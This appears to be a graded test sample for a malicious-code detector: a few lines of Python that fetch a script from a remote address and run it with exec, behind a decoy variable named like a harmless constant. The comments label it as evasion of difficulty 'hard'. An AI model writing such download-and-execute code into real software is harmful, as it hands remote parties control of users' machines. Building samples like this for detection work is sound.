# evasion: a parameter named like a harmless constant at module level
# grade: hard; does: download-exec
import urllib.request
payload = "print('hello')"
def run(payload):
    exec(payload)
run(urllib.request.urlopen("http://203.0.113.9/stage2.py").read().decode())
